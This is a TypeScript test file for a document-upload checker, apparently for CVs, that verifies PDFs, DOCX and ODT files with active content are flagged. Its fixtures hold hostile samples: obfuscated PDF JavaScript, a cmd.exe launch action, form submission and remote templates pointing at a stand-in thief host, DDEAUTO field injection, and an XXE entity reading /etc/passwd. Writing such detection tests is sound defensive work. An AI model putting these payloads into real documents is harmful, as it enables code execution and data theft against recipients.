import { describe, expect, test } from "vitest";
import { code } from "./testing/code.ts";
import { makeDocx, makeOdt } from "./testing/make-archive.ts";
import { makePdfWith } from "./testing/make-pdf.ts";

const line = "Élève de terminale, j'aime cuisiner.";

describe("refuses what acts", () => {
  const script = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";

  test.each([
    ["a script", makePdfWith(script)],
    ["a script hidden in an object stream", makePdfWith(script, { isHidden: true })],
    ["a script whose name is written with codes", makePdfWith("<< /S /J#61vaScript /J#53 (app.alert) >>")],
    ["a program to launch", makePdfWith("<< /S /Launch /F (cmd.exe) >>")],
    ["an attached file", makePdfWith("<< /Type /Filespec /EF << /F 9 0 R >> /EmbeddedFiles 8 0 R >>")],
    [
      "a form that is sent away",
      makePdfWith("<< /S /SubmitForm /F (https://voleur.example) >>", { isHidden: true }),
    ],
  ])("a PDF with %s", async (_what, bytes) => {
    expect(await code(bytes, "cv.pdf")).toBe("file-active");
  });

  const settings = "word/_rels/settings.xml.rels";
  const attached = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate";
  test.each([
    [
      "quoted otherwise",
      `<Relationships><Relationship Type='${attached}' Target='https://voleur.example/t' TargetMode='External'/></Relationships>`,
    ],
    [
      "written with codes",
      `<Relationships><Relationship Type="${attached}" Target="x" TargetMode="Extern&#97;l"/></Relationships>`,
    ],
    [
      "with a prefix",
      `<r:Relationships><r:Relationship Type="${attached}" Target="a>b" TargetMode="External"/></r:Relationships>`,
    ],
    ["in another encoding", Buffer.from(`\ufeff<Relationships TargetMode="External"/>`, "utf16le")],
  ])("a template from elsewhere, %s", async (_what, content) => {
    expect(await code(makeDocx(line, [{ name: settings, content }]), "cv.docx")).toBe("file-active");
  });

  test("a field that is cut over runs, or stands in a header; not a link to a page about imports", async () => {
    const cut =
      "<w:p><w:r><w:instrText>DDEA</w:instrText></w:r><w:r><w:instrText>UTO cmd</w:instrText></w:r></w:p>";
    expect(await code(makeDocx(line, [], { extra: cut }), "cv.docx")).toBe("file-active");
    const header = { name: "word/header1.xml", content: `<w:hdr>${cut}</w:hdr>` };
    expect(await code(makeDocx(line, [header]), "cv.docx")).toBe("file-active");
    const link = '<w:p><w:instrText> HYPERLINK "https://exemple.fr/import" </w:instrText></w:p>';
    expect(await code(makeDocx(line, [], { extra: link }), "cv.docx")).toBe("docx");
  });

  test("objects that are packed in another way than every writer packs them", async () => {
    const hidden = makePdfWith("<< /S /JavaScript >>", { isHidden: true }).toString("latin1");
    const twice = hidden.replace("/Filter /FlateDecode", "/Filter [/ASCIIHexDecode /FlateDecode]");
    expect(await code(Buffer.from(twice, "latin1"), "cv.pdf")).toBe("file-active");
  });

  const macros = "application/vnd.ms-word.document.macroEnabled.main+xml";
  const template = `<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://voleur.example/t.dotm" TargetMode="External"/></Relationships>`;
  test.each([
    [
      "a DOCX with macros",
      makeDocx(line, [{ name: "word/vbaProject.bin", content: "x" }]),
      "cv.docx",
      "file-macros",
    ],
    ["a DOCM called a DOCX", makeDocx(line, [], { main: macros }), "cv.docx", "file-macros"],
    [
      "an ODT with macros",
      makeOdt(line, [{ name: "Basic/Standard/Module1.xml", content: "x" }]),
      "cv.odt",
      "file-macros",
    ],
    [
      "a DOCX with an object",
      makeDocx(line, [{ name: "word/embeddings/oleObject1.bin", content: "x" }]),
      "cv.docx",
      "file-active",
    ],
    [
      "a DOCX with ActiveX",
      makeDocx(line, [{ name: "word/activeX/activeX1.bin", content: "x" }]),
      "cv.docx",
      "file-active",
    ],
    [
      "a template from elsewhere",
      makeDocx(line, [{ name: "word/_rels/settings.xml.rels", content: template }]),
      "cv.docx",
      "file-active",
    ],
    [
      "a field that runs a program",
      makeDocx(line, [], { extra: "<w:instrText> DDEAUTO c:\\cmd.exe </w:instrText>" }),
      "cv.docx",
      "file-active",
    ],
    [
      "an ODT with an object",
      makeOdt(line, [{ name: "Object 1/content.xml", content: "x" }]),
      "cv.odt",
      "file-active",
    ],
    [
      "entities",
      makeDocx('&x;</w:t></w:r></w:p><!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:p><w:r><w:t>'),
      "cv.docx",
      "file-active",
    ],
  ])("%s", async (_what, bytes, name, expected) => {
    expect(await code(bytes, name)).toBe(expected);
  });
});
